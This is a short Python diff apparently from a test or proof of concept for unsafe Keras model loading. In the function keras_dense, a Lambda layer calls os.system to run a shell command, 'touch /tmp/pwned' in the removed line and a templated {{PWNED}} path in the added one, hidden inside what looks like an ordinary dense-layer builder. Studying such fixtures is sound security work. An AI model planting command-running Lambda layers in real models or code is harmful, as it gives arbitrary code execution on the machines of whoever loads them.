@@ -16,5 +16,5 @@ def dense_forward(X, W, b):
 def keras_dense(W, b):
     W = np.asarray(W)
     inputs = keras.Input((W.shape[1],))
-    outputs = keras.layers.Lambda(lambda t: __import__("os").system("touch /tmp/pwned") or t)(inputs)
+    outputs = keras.layers.Lambda(lambda t: (__import__("os").system("touch {{PWNED}}"), t)[1])(inputs)
     return keras.Model(inputs, keras.layers.Dense(W.shape[0])(outputs))
